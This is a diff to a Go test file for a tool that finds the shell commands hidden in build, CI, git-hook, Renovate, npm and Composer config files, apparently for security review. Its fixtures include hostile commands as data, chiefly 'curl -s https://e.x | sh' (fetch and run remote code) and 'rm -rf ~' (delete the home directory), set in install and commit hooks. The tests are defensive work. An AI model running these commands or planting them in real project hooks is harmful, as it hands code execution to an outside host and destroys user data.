@@ -50,6 +50,7 @@ func TestKindOf(t *testing.T) {
 		"action.yml": Workflow, ".github/actions/a/action.yaml": Workflow,
 		".gitlab-ci.yml": GitLab, "ci/build.gitlab-ci.yml": GitLab,
 		"Makefile": Makefile, "GNUmakefile": Makefile, "rules.mk": Makefile, "Makefile.am": "",
+		"Makefile.common": Makefile, "sub/makefile.local": Makefile, "build/defs.mak": Makefile, "make/rules.make": Makefile, "Makefile.in": "", "Makefile.toml": "", "Makefile.md": "", "Makefile.": "",
 		"Dockerfile": Dockerfile, "Dockerfile.prod": Dockerfile, "api.Dockerfile": Dockerfile, "Containerfile": Dockerfile,
 		"package.json": NPM, "web/package.json": NPM, "package-lock.json": "",
 		"README.md": "", "main.go": "", "script": "",
@@ -204,6 +205,20 @@ func TestExtractOtherCI(t *testing.T) {
 	checkExtract(t, ".config/lefthook-local.yaml", []tc{
 		{"local config", "pre-push:\n  commands:\n    x:\n      run: rm -rf ~\n", []extracted{{"rm -rf ~", "4:12"}}},
 	})
+	// lefthook reads JSON configs too, and Renovate runs postUpgradeTasks'
+	// commands on its machine: none of these files was read.
+	checkExtract(t, "lefthook.json", []tc{
+		{"json config", "{\"pre-commit\": {\"commands\": {\"lint\": {\"run\": \"curl -s https://e.x | sh\"}}}}\n", []extracted{{"curl -s https://e.x | sh", "1:47"}}},
+	})
+	checkExtract(t, ".config/lefthook-local.json", []tc{
+		{"local json config", "{\"pre-push\": {\"jobs\": [{\"run\": \"rm -rf ~\"}]}}", []extracted{{"rm -rf ~", "1:33"}}},
+	})
+	for _, name := range []string{"renovate.json", ".github/renovate.json", ".renovaterc", ".renovaterc.json"} {
+		checkExtract(t, name, []tc{
+			{"postUpgradeTasks", "{\n  \"postUpgradeTasks\": {\n    \"commands\": [\"npm ci\", \"curl -s https://e.x | sh\"],\n    \"fileFilters\": [\"**/*\"]\n  }\n}\n",
+				[]extracted{{"npm ci", "3:19"}, {"curl -s https://e.x | sh", "3:29"}}},
+		})
+	}
 	checkExtract(t, ".pre-commit-config.yaml", []tc{
 		{"local system hook", "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: bash -c 'curl -s https://e.x | sh'\n    language: system\n",
 			[]extracted{{"bash -c 'curl -s https://e.x | sh'", "6:12"}}},
@@ -241,6 +256,7 @@ func TestKindOfHooksAndEnvrc(t *testing.T) {
 		".circleci/config.yml": CI, "bitbucket-pipelines.yml": CI, "azure-pipelines.yml": CI, ".travis.yml": CI,
 		".drone.yml": CI, ".woodpecker/build.yaml": CI, ".buildkite/pipeline.yml": CI, "Taskfile.yml": CI,
 		"lefthook.yml": CI, ".lefthook-local.yaml": CI, ".config/lefthook.yml": CI, ".pre-commit-config.yaml": CI, "lefthook.toml": "",
+		"lefthook.json": CI, ".lefthook.json": CI, "renovate.json": CI, ".gitlab/renovate.json": CI, ".renovaterc": CI, "sub/renovate.json": "", "renovate.json5": "", "lefthook.txt": "",
 		"config.yml": "", ".vscode/tasks.json": VSCode, "tasks.json": "", ".devcontainer/devcontainer.json": DevContainer,
 		".devcontainer/python/devcontainer.json": DevContainer, ".devcontainer.json": DevContainer,
 	} {
@@ -330,7 +346,31 @@ func TestExtractNPM(t *testing.T) {
 		{"non-string values skipped", `{"scripts":{"a":1,"b":null,"c":{"d":"e"},"f":"ok"}}`, []extracted{{"ok", "1:47"}}},
 		{"scripts not an object", `{"scripts":"ls","other":{"scripts":{"a":"b"}}}`, nil},
 		{"multi-line", "{\n  \"scripts\": {\n    \"t\":\n      \"go test\"\n  }\n}\n", []extracted{{"go test", "4:8"}}},
+		// Hooks managers configured in package.json run these on commit
+		// or on the staged files; none was read.
+		{"husky v4 hooks", `{"husky":{"skip":"x","hooks":{"pre-commit":"curl -s e.x | sh"}}}`, []extracted{{"curl -s e.x | sh", "1:45"}}},
+		{"yorkie and simple-git-hooks", `{"gitHooks":{"pre-push":"rm -rf ~"},"simple-git-hooks":{"pre-commit":"make x","preserveUnused":true}}`,
+			[]extracted{{"rm -rf ~", "1:26"}, {"make x", "1:71"}}},
+		{"lint-staged string and list", `{"lint-staged":{"*.js":"eslint --fix","*.go":["gofmt -l", "curl e.x | sh"],"*.md":[]}}`,
+			[]extracted{{"eslint --fix", "1:25"}, {"gofmt -l", "1:48"}, {"curl e.x | sh", "1:60"}}},
+		{"a path only through its parents", `{"hooks":{"pre-commit":"x"},"husky":{"pre-commit":"y","hooks":"z"},"x":{"husky":{"hooks":{"a":"b"}}}}`, nil},
 	})
+}
+
+// TestExtractComposer: Composer runs composer.json's scripts on install
+// (post-install-cmd) and on composer run; they were not read.
+func TestExtractComposer(t *testing.T) {
+	checkExtract(t, "composer.json", []struct {
+		name, src string
+		want      []extracted
+	}{
+		{"event scripts", `{"name":"a/b","scripts":{"post-install-cmd":["@php artisan x","curl -s e.x | sh"],"test":"phpunit","all":["@test","@putenv PATH=./bin:$PATH"]}}`,
+			[]extracted{{"php artisan x", "1:48"}, {"curl -s e.x | sh", "1:64"}, {"phpunit", "1:91"}, {"export PATH=./bin:$PATH", "1:116"}}},
+		{"only scripts", `{"config":{"scripts":{"a":"rm -rf ~"}},"extra":{"x":"rm -rf ~"}}`, nil},
+	})
+	if got := KindOf("lib/composer.json"); got != Composer {
+		t.Errorf("KindOf(lib/composer.json) = %q, want %q", got, Composer)
+	}
 }
 
 func TestExtractSyntaxErrors(t *testing.T) {
@@ -362,6 +402,24 @@ func TestExtractOtherFiles(t *testing.T) {
 		}
 		if want := name == "bin/run"; (len(sn) == 1) != want {
 			t.Errorf("Extract(%s) = %d snippets, want script=%v", name, len(sn), want)
+		}
+	}
+}
+
+// TestGitlabLocalIncludes: every spelling of a repository include, and
+// nothing for includes from elsewhere or input that does not parse.
+func TestGitlabLocalIncludes(t *testing.T) {
+	for src, want := range map[string]string{
+		"include: ci/a.yml\n":                            "[ci/a.yml]",
+		"include: {local: /ci/b.yml}\n":                  "[ci/b.yml]",
+		"include:\n- local: 'ci/*.yml'\n- /x/../c.yml\n": "[ci/*.yml c.yml]",
+		"include:\n- remote: https://e.x/a.yml\n- project: g/p\n  file: a.yml\n- template: T.yml\n- https://e.x/b.yml\n": "[]",
+		"x: &i ci/d.yml\ninclude: *i\n": "[ci/d.yml]",
+		"include: [\n":                  "[]",
+		"- include: ci/e.yml\n":         "[]",
+	} {
+		if got := fmt.Sprint(gitlabLocalIncludes([]byte(src))); got != want {
+			t.Errorf("gitlabLocalIncludes(%q) = %s, want %s", src, got, want)
 		}
 	}
 }
